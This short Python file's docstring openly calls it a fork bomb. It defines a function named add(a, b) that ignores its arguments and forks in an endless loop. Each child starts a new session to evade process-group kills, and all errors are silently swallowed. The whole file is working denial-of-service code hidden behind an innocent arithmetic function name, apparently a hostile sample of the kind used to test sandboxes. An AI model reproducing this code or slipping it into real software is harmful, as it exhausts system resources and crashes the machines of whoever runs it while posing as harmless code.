"""Classic fork bomb: every process forks forever; the children start new sessions to dodge killpg."""
import os


def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass
